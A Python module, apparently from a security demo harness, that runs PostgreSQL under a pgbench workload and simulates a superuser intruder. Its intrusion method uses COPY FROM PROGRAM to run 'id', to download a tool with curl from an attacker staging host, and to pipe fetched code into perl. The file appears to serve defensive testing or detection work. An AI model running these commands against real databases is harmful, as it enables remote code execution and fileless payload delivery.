"""PostgreSQL, and an intruder with the rights of its superuser."""

import os
import pwd
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from functools import partial
from pathlib import Path

from baseline.demo.attacker import attacker
from baseline.demo.service import Service, Step
from baseline.errors import BaselineError

_RATE = 60
"""Transactions a second."""


class Postgres(Service):
    """PostgreSQL of whichever version is installed, under pgbench."""

    name = "postgres"
    packages = "postgresql curl"
    ended_by = signal.SIGINT  # fast: what runs is rolled back

    def start(self) -> None:
        """Make a database cluster, start it, fill it for pgbench."""
        super().start()
        self.client("pgbench", "--initialize", "--quiet", "--scale=1")

    def prepare(self) -> None:
        """Make a database cluster."""
        self._programs = _newest_programs()
        shutil.chown(self.folder, "postgres")
        self.folder.chmod(0o755)
        subprocess.run(
            [self._programs / "initdb", "-D", self.folder / "data", "-A", "trust", "-N"],
            check=True,
            stdout=subprocess.DEVNULL,
            user="postgres",
            group="postgres",
            extra_groups=(),
            cwd=self.folder,
        )

    def launch(self) -> None:
        """Start it and return when it answers."""
        socket_option = f"-c unix_socket_directories={self.folder}"
        # The user is changed inside, because joining the cgroup takes root.
        account = pwd.getpwnam("postgres")
        self.process = self.cgroup.start(
            [
                "/usr/bin/setpriv",
                f"--reuid={account.pw_uid}",
                f"--regid={account.pw_gid}",
                "--clear-groups",
                self._programs / "postgres",
                f"-D{self.folder / 'data'}",
                f"-p{self.port}",
                *socket_option.split(),
            ],
            cwd=self.folder,
        )
        self.await_port()

    def work(self, stop: threading.Event) -> None:
        """Turns of two seconds of pgbench: its read-write mix, then reading alone."""
        turn = 0
        while not stop.is_set():
            builtin = ("tpcb-like", "select-only")[turn % 2]
            self.client(
                "pgbench", "--client=2", "--time=2", f"--rate={_RATE}", f"--builtin={builtin}"
            )
            turn += 1

    @contextmanager
    def intrusion(self) -> Iterator[Sequence[Step]]:
        """COPY FROM PROGRAM, which a superuser of the database may use."""
        with attacker() as stage:
            yield [
                Step("has COPY FROM PROGRAM run a shell command", partial(self.copy_from, "id")),
                Step(
                    f"downloads a tool from {stage}",
                    partial(self.copy_from, f"curl -s -o /dev/null {stage}"),
                ),
                Step(
                    "runs a program from memory that is in no file",
                    partial(self.copy_from, f"curl -s {stage} | perl"),
                ),
            ]

    def copy_from(self, command: str) -> bytes:
        """Have COPY FROM PROGRAM run a shell command; returns what it printed."""
        statement = f"CREATE TEMP TABLE output (line text); COPY output FROM PROGRAM '{command}'"
        return self.client("psql", "-c", statement, "-c", "SELECT * FROM output")

    def client(self, program: str, *arguments: str) -> bytes:
        """Run one of PostgreSQL's own clients as the superuser, to its end, however it ends."""
        return subprocess.run(
            [self._programs / program, *arguments],
            env={
                **os.environ,
                "PGDATABASE": "postgres",
                "PGHOST": "127.0.0.1",
                "PGPORT": str(self.port),
                "PGUSER": "postgres",
            },
            check=False,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
        ).stdout


def _newest_programs() -> Path:
    versions = sorted(Path("/usr/lib/postgresql").glob("*/bin"), key=lambda p: float(p.parent.name))
    if not versions:
        raise BaselineError("PostgreSQL is not installed", "Run: apt install postgresql")
    return versions[-1]
